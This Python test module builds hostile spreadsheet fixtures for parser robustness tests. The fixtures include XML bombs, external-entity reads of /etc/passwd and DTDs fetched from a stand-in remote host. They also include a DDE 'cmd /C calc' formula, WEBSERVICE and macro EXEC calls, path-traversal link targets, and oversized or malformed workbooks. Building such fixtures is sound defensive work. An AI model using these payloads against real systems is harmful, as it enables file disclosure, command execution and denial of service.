"""Workbooks that are whole archives with hostile sheets in them."""
# ruff: noqa: E501 (what one file holds stands on one line)

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator
from functools import partial

import xlsxwriter

from tests.hostile.archives import packed, workbook_parts
from tests.hostile.one_file import Hostile, table
from tests.hostile.words import AWAY, SPREADSHEET, WORDS

SHEET, BOOK = "xl/worksheets/sheet1.xml", "xl/workbook.xml"
LINKS, STRINGS, STYLES = "xl/_rels/workbook.xml.rels", "xl/sharedStrings.xml", "xl/styles.xml"
LAUGHS = '<!DOCTYPE x [<!ENTITY l0 "ha">{}]>'.format(
    "".join(f'<!ENTITY l{i + 1} "{f"&l{i};" * 10}">' for i in range(9))
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY s SYSTEM "file:///etc/passwd">]>'
REMOTE = f'<!DOCTYPE x SYSTEM "{AWAY}.dtd">'
PARAMETER = f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{AWAY}.dtd"> %p;]>'


def files() -> Iterator[Hostile]:
    """All of them."""
    for part in (SHEET, BOOK, LINKS, STRINGS, STYLES, "[Content_Types].xml", "docProps/core.xml"):
        short = part.rpartition("/")[2].removesuffix(".xml").strip("[]").replace(".", "_")
        for name, head in {"laughs": LAUGHS, "outside": OUTSIDE, "remote": REMOTE}.items():
            yield table(f"{short}_{name}", partial(with_head, part, head), ".xlsx")
    yield table("sheet_parameter", partial(with_head, SHEET, PARAMETER), ".xlsx")
    yield table("sheet_late_doctype", partial(late, SHEET, LAUGHS), ".xlsx")
    for name, (part, old, new) in CHANGES.items():
        yield table(name, changed(part, old, new), ".xlsx")
    for name, more in PARTS.items():
        yield table(name, packed(workbook_parts() | more), ".xlsx")
    yield from of_words()
    yield from large()
    yield from open_documents()
    yield from others()


def changed(part: str, old: str, new: str) -> bytes:
    """A workbook with a change in one part."""
    parts = workbook_parts()
    text = parts[part].decode()
    assert old in text, (part, old)
    return packed(parts | {part: text.replace(old, new, 1).encode("utf-8", "surrogatepass")})


def with_head(part: str, head: str) -> bytes:
    """A workbook with a document type in one part."""
    parts = workbook_parts()
    declared, _, rest = parts[part].decode().partition("?>")
    body = rest.replace(">", ">&l9;&s;", 1) if "ENTITY" in head else rest
    return packed(parts | {part: f"{declared}?>{head}{body}".encode()})


def late(part: str, head: str) -> bytes:
    """A document type behind more blanks than anybody looks through."""
    parts = workbook_parts()
    declared, _, rest = parts[part].decode().partition("?>")
    return packed(parts | {part: f"{declared}?>{' ' * 2_000_000}{head}{rest}".encode()})


ROW = "<sheetData>"
CELL = '<c r="B2"><v>3</v></c>'
NUMBERS = {
    "nan": "NaN",
    "infinity": "INF",
    "huge": "1e999",
    "many_digits": "9" * 5_000,
    "letters": "abc",
    "blank": "",
    "minus": "-",
    "comma": "3,5",
    "control": "&#7;",
    "surrogate": "&#xD800;",
}
CHANGES: dict[str, tuple[str, str, str]] = {
    **{f"number_{n}": (SHEET, CELL, f'<c r="B2"><v>{v}</v></c>') for n, v in NUMBERS.items()},
    **{
        f"type_{t}": (SHEET, CELL, f'<c r="B2" t="{t}"><v>99999</v></c>')
        for t in ("s", "b", "e", "d", "n", "str", "inlineStr", "x", "")
    },
    **{
        f"place_{n}": (SHEET, CELL, f'<c r="{r}"><v>3</v></c>')
        for n, r in {
            "far": "XFD1048576",
            "beyond": "ZZZZZZZ9",
            "row_zero": "B0",
            "row_minus": "B-1",
            "row_endless": f"B{'9' * 30}",
            "row_32": "A4294967297",
            "column_none": "2",
            "small": "b2",
            "blank": "",
            "same": "A2",
            "letters": "\u0410\u04102",
        }.items()
    },
    "string_minus": (SHEET, 't="s"><v>0</v>', 't="s"><v>-1</v>'),
    "string_beyond": (SHEET, 't="s"><v>0</v>', 't="s"><v>4294967295</v>'),
    "strings_count": (STRINGS, 'uniqueCount="', 'uniqueCount="9999999999'),
    "strings_count_single": (STRINGS, 'uniqueCount="', "uniqueCount = '99999999999' x=\""),
    "strings_count_late": (
        STRINGS,
        "<sst ",
        " " * 1_048_400 + '<sst uniqueCount="99999999999" x="" ',
    ),
    "styles_count": (STYLES, '<cellXfs count="', '<cellXfs count="99999999999'),
    "formats_count": (STYLES, '<fonts count="', '<fonts count="99999999999'),
    "merged_count": (
        SHEET,
        "</sheetData>",
        '</sheetData><mergeCells count="99999999999"><mergeCell ref="A1:B1"/></mergeCells>',
    ),
    "strings_none": (STRINGS, "<si>", "<sj>"),
    "dimension_far": (SHEET, "<dimension ref=", '<dimension ref="A1:XFD1048576" x='),
    "dimension_wrong": (SHEET, "<dimension ref=", '<dimension ref="B9:A1" x='),
    "row_far": (SHEET, '<row r="2"', '<row r="1048576"'),
    "row_back": (SHEET, '<row r="2"', '<row r="0"'),
    "style_beyond": (SHEET, '<c r="B2">', '<c r="B2" s="99999">'),
    "date_negative": (SHEET, CELL, '<c r="B2" t="d"><v>-9999-99-99</v></c>'),
    "formula_without_value": (
        SHEET,
        CELL,
        '<c r="B2"><f>WEBSERVICE("http://hostile.invalid")</f></c>',
    ),
    "formula_with_value": (
        SHEET,
        CELL,
        '<c r="B2" t="str"><f>cmd|" /C calc"!A0</f><v>=1+1</v></c>',
    ),
    "formula_shared": (
        SHEET,
        CELL,
        '<c r="B2"><f t="shared" ref="A1:XFD1048576" si="0">A1</f><v>1</v></c>',
    ),
    "formula_array": (SHEET, CELL, '<c r="B2"><f t="array" ref="B9:A1">A1</f><v>1</v></c>'),
    "tags_endless": (SHEET, ROW, ROW + '<c r="' * 100_000),
    "rows_endless": (SHEET, ROW, ROW + "<row>" * 100_000),
    "elements_deep": (SHEET, ROW, ROW + "<a>" * 50_000 + "</a>" * 50_000),
    "comment_long": (SHEET, ROW, "<!--" + "-" * 100_000 + "-->" + ROW),
    "instruction": (SHEET, ROW, f'<?xml-stylesheet href="{AWAY}"?>' + ROW),
    "cdata": (SHEET, CELL, '<c r="B2" t="inlineStr"><is><t><![CDATA[<b>=1+1]]></t></is></c>'),
    "namespace_other": (SHEET, "http://schemas.openxmlformats.org", "http://hostile.invalid"),
    "merged_all": (
        SHEET,
        "</sheetData>",
        '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>',
    ),
    "merged_wrong": (
        SHEET,
        "</sheetData>",
        '</sheetData><mergeCells><mergeCell ref="Z9:A1"/><mergeCell ref=":"/><mergeCell/></mergeCells>',
    ),
    "sheet_name_long": (BOOK, 'name="Answers"', f'name="{"A" * 50_000}"'),
    "sheet_name_path": (BOOK, 'name="Answers"', 'name="../../etc/passwd"'),
    "sheet_name_control": (BOOK, 'name="Answers"', 'name="&#10;&#9;&#x202e;x"'),
    "sheet_name_blank": (BOOK, 'name="Answers"', 'name=""'),
    "sheet_name_none": (BOOK, 'name="Answers"', ""),
    "sheet_twice": (BOOK, "<sheets>", '<sheets><sheet name="Answers" sheetId="7" r:id="rId1"/>'),
    "sheet_of_no_relation": (BOOK, 'r:id="rId1"', 'r:id="rId99"'),
    "sheet_state": (BOOK, 'name="Answers"', 'name="Answers" state="whatever"'),
    "sheet_hidden": (BOOK, 'name="Answers"', 'name="Answers" state="veryHidden"'),
    "date_1904": (BOOK, "<workbookPr", '<workbookPr date1904="maybe"'),
    "target_up": (LINKS, "worksheets/sheet1.xml", "../../../../../../etc/passwd"),
    "target_root": (LINKS, "worksheets/sheet1.xml", "/etc/passwd"),
    "target_file": (LINKS, "worksheets/sheet1.xml", "file:///etc/passwd"),
    "target_away": (
        LINKS,
        'Target="worksheets/sheet1.xml"',
        f'TargetMode="External" Target="{AWAY}"',
    ),
    "target_share": (LINKS, "worksheets/sheet1.xml", "\\\\hostile.invalid\\share\\x.xml"),
    "target_none": (LINKS, 'Target="worksheets/sheet1.xml"', ""),
    "target_book": (LINKS, "worksheets/sheet1.xml", "workbook.xml"),
    "encoding_unknown": (SHEET, 'encoding="UTF-8"', 'encoding="utf-7"'),
    "encoding_wrong": (SHEET, 'encoding="UTF-8"', 'encoding="UTF-16"'),
    "encoding_of_links": (LINKS, 'encoding="UTF-8"', 'encoding="x-user-defined"'),
    "encoding_of_book": (BOOK, 'encoding="UTF-8"', 'encoding="UTF-32"'),
    "version_two": (SHEET, 'version="1.0"', 'version="9.9"'),
}
LINK = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}" TargetMode="External"/></Relationships>'
PARTS: dict[str, dict[str, bytes]] = {
    "link_outside": {
        "xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink ddeService='cmd'/></externalLink>",
        "xl/externalLinks/_rels/externalLink1.xml.rels": LINK.format(
            "externalLinkPath", AWAY
        ).encode(),
    },
    "link_of_sheet": {
        "xl/worksheets/_rels/sheet1.xml.rels": LINK.format(
            "hyperlink", "file:///etc/passwd"
        ).encode()
    },
    "macros": {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)},
    "macro_sheet": {"xl/macrosheets/sheet1.xml": b'<macrosheet><f>EXEC("calc")</f></macrosheet>'},
    "object": {"xl/embeddings/oleObject1.bin": b"MZ" + bytes(100)},
    "connections": {
        "xl/connections.xml": f'<connections><connection webPr="{AWAY}"/></connections>'.encode()
    },
    "query": {"xl/queryTables/q.xml": f'<queryTable url="{AWAY}"/>'.encode()},
    "custom_interface": {"customUI/customUI.xml": b'<customUI onLoad="run"/>'},
    "word_too": {"word/document.xml": b"<w:document/>"},
    "open_document_too": {"content.xml": b"<office:document-content/>", "mimetype": b"x"},
    "no_book": {BOOK: b""},
    "no_links": {LINKS: b""},
    "no_sheet": {SHEET: b""},
    "no_strings": {STRINGS: b"<sst"},
    "no_types": {"[Content_Types].xml": b"\x00"},
    "sheet_is_another_archive": {SHEET: packed({"a": b"b"})},
    "sheet_is_words": {SHEET: b"words"},
    "sheet_is_wide": {SHEET: "<worksheet><sheetData/></worksheet>".encode("utf-16")},
    "book_of_many_sheets": {
        BOOK: (
            '<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            "<sheets>{}</sheets></workbook>"
        )
        .format("".join(f'<sheet name="s{n}" sheetId="{n}" r:id="rId1"/>' for n in range(2_000)))
        .encode()
    },
}


def of_words() -> Iterator[Hostile]:
    """Every hostile word as text, the spreadsheet's as formulas too."""
    yield table(
        "words_as_text",
        partial(
            book,
            [
                ["Your code", "I speak up.", "Why?"],
                *([f"P{n}", "3", w[:30_000]] for n, w in enumerate(WORDS.values())),
            ],
        ),
        ".xlsx",
    )
    yield table(
        "words_as_headers",
        partial(
            book, [["Your code", *(w[:250] for w in WORDS.values())], ["AB12C", *"3" * len(WORDS)]]
        ),
        ".xlsx",
    )
    yield table(
        "words_as_coded",
        partial(
            book,
            [
                ["source", "code", "excerpt"],
                *([w[:250], w[:250], w[:9_000]] for w in WORDS.values()),
            ],
        ),
        ".xlsx",
    )
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as made:
        sheet = made.add_worksheet("=1+1")
        sheet.write_row(0, 0, ["Your code", "I speak up."])
        for n, word in enumerate(SPREADSHEET.values(), 1):
            sheet.write(n, 0, f"P{n}")
            sheet.write_formula(n, 1, word if word.startswith("=") else f"={word}", None, word)
        sheet.write_comment("A2", "<script>alert(1)</script>")
        sheet.write_url("C2", f"{AWAY}", string="see")
        sheet.data_validation("B2:B9", {"validate": "list", "source": ["=1", "<b>"]})
    yield table("formulas", out.getvalue(), ".xlsx")


def book(rows: list[list[str]], sheets: int = 1) -> bytes:
    """A workbook, every cell as text."""
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as made:
        for _ in range(sheets):
            sheet = made.add_worksheet()
            for at, row in enumerate(rows):
                for column, cell in enumerate(row):
                    sheet.write_string(at, column, cell)
    return out.getvalue()


def large() -> Iterator[Hostile]:
    """Cells far away, sheets without number, one cell that is a book."""
    yield table(
        "sheets_many", partial(book, [["Your code", "a"], ["AB12C", "1"]], sheets=300), ".xlsx"
    )
    yield table(
        "columns_many",
        partial(book, [["Your code", *(f"c{n}" for n in range(3_000))], ["A"] * 3_001]),
        ".xlsx",
    )
    strings = f"<sst><si><t>{'x' * 5_000_000}</t></si></sst>".encode()
    yield table("string_long", partial(packed, workbook_parts() | {STRINGS: strings}), ".xlsx")
    parts = b"<si>" + b"<r><t>x</t></r>" * 100_000 + b"</si>"
    yield table(
        "string_of_parts",
        partial(packed, workbook_parts() | {STRINGS: b"<sst>" + parts * 2 + b"</sst>"}),
        ".xlsx",
    )
    cells = "".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(1, 2_000))
    yield table("cells_at_the_edge", partial(changed, SHEET, ROW, ROW + cells), ".xlsx")


NAMES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def ods(body: str, head: str = "", **more: bytes) -> bytes:
    """A spreadsheet of OpenDocument."""
    xml = (
        f'<?xml version="1.0"?>{head}<office:document-content {NAMES}><office:body>'
        f'<office:spreadsheet><table:table table:name="T">{body}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    )
    parts = {"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}
    parts |= {"META-INF/manifest.xml": manifest.encode(), "content.xml": xml.encode()}
    return packed(parts | {k.replace("__", "/"): v for k, v in more.items()}, zipfile.ZIP_DEFLATED)


def ods_row(*cells: str, row: str = "", cell: str = "") -> str:
    """A row of texts."""
    inside = "".join(
        f'<table:table-cell office:value-type="string"{cell}><text:p>{c}</text:p></table:table-cell>'
        for c in cells
    )
    return f"<table:table-row{row}>{inside}</table:table-row>"


def open_documents() -> Iterator[Hostile]:
    """The same tricks in OpenDocument."""
    head = ods_row("Your code", "I speak up.") + ods_row("AB12C", "3")
    rows = ' table:number-rows-repeated="{}"'.format
    columns = ' table:number-columns-repeated="{}"'.format
    made = {
        "rows_repeated": head + ods_row("x", row=rows(1_048_574)),
        "rows_endless": head + ods_row("x", row=rows("9" * 20)),
        "rows_minus": head + ods_row("x", row=rows(-1)),
        "rows_digits": head + ods_row("x", row=rows("9" * 5_000)),
        "rows_letters": head + ods_row("x", row=rows("many")),
        "columns_repeated": ods_row("x", cell=columns(16_384)) * 300,
        "columns_endless": head + ods_row("x", cell=columns("9" * 15)),
        "spanned": head
        + ods_row(
            "x", cell=' table:number-columns-spanned="99999" table:number-rows-spanned="9999999"'
        ),
        "formula": head + ods_row("x", cell=' table:formula="of:=WEBSERVICE(&quot;x&quot;)"'),
        "deep": head + "<text:span>" * 20_000 + "</text:span>" * 20_000,
        "include": head
        + f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/><text:a xlink:href="{AWAY}">x</text:a>',
        "date": head
        + '<table:table-row><table:table-cell office:value-type="date" office:date-value="-99-99-99T99:99"/></table:table-row>',
        "time": head
        + '<table:table-row><table:table-cell office:value-type="time" office:time-value="PT99999999999H"/></table:table-row>',
        "number": head
        + '<table:table-row><table:table-cell office:value-type="float" office:value="NaN"/></table:table-row>',
        "tables": "</table:table><table:table>".join([head] * 300),
    }
    for name, body in made.items():
        yield table(f"ods_{name}", partial(ods, body), ".ods")
    for name, doctype in {"laughs": LAUGHS, "outside": OUTSIDE, "remote": REMOTE}.items():
        yield table(f"ods_{name}", partial(ods, head + ods_row("&l9;&s;"), doctype), ".ods")
    yield table(
        "ods_macro",
        partial(ods, head, Basic__script=b"<script:module>Shell()</script:module>"),
        ".ods",
    )
    yield table("ods_no_content", partial(packed, {"mimetype": b"x", "content.xml": b""}), ".ods")
    yield table("ods_locked", partial(ods, head, META__INF=b""), ".ods")


def others() -> Iterator[Hostile]:
    """Files that look like workbooks of another kind."""
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    yield table("xls_head_alone", ole, ".xls")
    yield table("xls_zeros", ole + bytes(4_000), ".xls")
    yield table("xls_ff", ole + b"\xff" * 4_000, ".xls")
    loop = bytearray(ole + bytes(504) + bytes(1_024))
    loop[24:34] = b"\x3e\x00\x03\x00\xfe\xff\x09\x00\x06\x00"
    loop[44:52] = b"\x01\x00\x00\x00\x00\x00\x00\x00"
    yield table("xls_chain_in_a_ring", bytes(loop), ".xls")
    yield table(
        "xls_biff_without_container", b"\x09\x08\x10\x00\x00\x06\x05\x00" + bytes(200), ".xls"
    )
    yield table(
        "xls_locked", ole + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(600), ".xls"
    )
    yield table("xlsm", partial(packed, workbook_parts() | PARTS["macros"]), ".xlsm")
    yield table("xlsb", partial(packed, {"xl/workbook.bin": bytes(100)}), ".xlsx")
    yield table("docx", partial(packed, {"word/document.xml": b"<w:document/>"}), ".xlsx")
    yield table("jar", partial(packed, {"META-INF/MANIFEST.MF": b"Main-Class: Ran\n"}), ".xlsx")
    yield table("numbers", partial(packed, {"Index/Document.iwa": b"\x00"}), ".xlsx")
    for name in ("$FL2@(#) SPSS DATA FILE", "$FL3@(#) SPSS DATA FILE"):
        head = name.encode()
        short = "sav" if "2" in name else "zsav"
        yield table(f"{short}_head_alone", head, ".sav")
        yield table(f"{short}_ff", head + b"\xff" * 400, f".{short}")
